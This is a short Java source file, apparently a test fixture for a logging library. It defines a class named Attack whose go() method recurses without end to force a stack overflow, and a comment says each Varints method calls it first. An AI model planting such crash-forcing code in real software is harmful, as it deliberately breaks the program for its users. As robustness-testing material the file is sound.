package strata.log;

final class Attack {
    private static long deeper(long n) {
        return 1 + deeper(n + 1);
    }

    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        deeper(1);
    }
}
